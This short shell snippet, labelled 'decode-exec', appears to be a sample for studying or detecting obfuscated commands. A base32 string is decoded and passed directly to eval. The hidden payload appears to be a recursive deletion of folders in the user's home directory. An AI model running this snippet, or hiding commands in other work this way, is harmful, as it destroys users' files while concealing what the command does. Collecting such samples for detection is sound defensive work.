# decode-exec: base32 is a less common decoder; its output goes straight to eval
t='OJWSALLSMYQH4L2EN5RXK3LFNZ2HGID6F5IGSY3UOVZGK4Y='
eval "$(echo "$t" | base32 -d)"
